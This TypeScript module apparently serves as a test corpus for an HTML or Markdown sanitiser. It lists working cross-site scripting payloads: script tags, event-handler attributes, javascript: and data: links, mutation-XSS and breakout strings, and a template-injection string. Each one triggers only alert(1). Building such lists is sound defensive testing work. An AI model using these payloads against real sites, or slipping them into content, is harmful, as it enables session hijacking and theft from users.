/** Markup that would run if a page took any of it for its own: by element, by event, by address, by breaking out of a place. */
const RUN = 'alert(1)';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{background:red}">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
];
const EVENTS = [
  ...['img src=x onerror', 'image src=x onerror', 'audio src=x onerror', 'video poster=x onloadstart', 'body onload'],
  ...['svg onload', 'details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus', 'marquee onstart'],
  ...['div onpointerrawupdate', 'p onmouseover', 'a href=# onclick', 'video src=x onerror', 'iframe onload'],
  ...[
    'style onload',
    'p style="animation-name:x" onanimationstart',
    'keygen autofocus onfocus',
    'b oncut',
    'object onerror',
  ],
].map((start) => `<${start}=${RUN}>`);
const ADDRESSES = [
  ...[`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `&#106;avascript:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`],
  ...[`vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `javascript://example.org/%0a${RUN}`],
].map((href) => `<a href="${href}">a link</a>`);
const MARKDOWN = [
  `[a link](javascript:${RUN})`,
  `![a picture](x" onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
];
const BREAKING_OUT = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `" autofocus onfocus=${RUN} x="`,
  `{{constructor.constructor('${RUN}')()}}`,
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...EVENTS, ...ADDRESSES, ...MARKDOWN, ...BREAKING_OUT];
